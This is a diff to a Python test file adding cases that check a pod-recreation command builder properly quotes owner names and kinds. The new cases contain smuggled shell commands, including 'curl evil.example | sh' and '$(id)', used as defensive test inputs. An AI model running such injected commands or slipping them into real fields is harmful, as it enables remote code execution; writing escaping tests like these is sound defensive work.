@@ -113,6 +113,18 @@ def test_variables_of_the_caller_override_the_deployed_configuration() -> None:
             id="replicaset-without-deployment",
         ),
         pytest.param({"kind": "Job", "name": "once"}, {}, "delete pod web-7d4b9-x2x1k   # its Job once", id="job"),
+        pytest.param(
+            {"kind": "Deployment", "name": "web; curl evil.example | sh"},
+            {},
+            "rollout restart 'deployment/web; curl evil.example | sh'",
+            id="owner-whose-name-is-a-shell-command",
+        ),
+        pytest.param(
+            {"kind": "$(id)", "name": "`id`"},
+            {},
+            "delete pod web-7d4b9-x2x1k   # its '$(id)' '`id`'",
+            id="owner-whose-kind-is-a-shell-command",
+        ),
     ],
 )
 def test_command_that_recreates_a_pod_depends_on_its_owner(
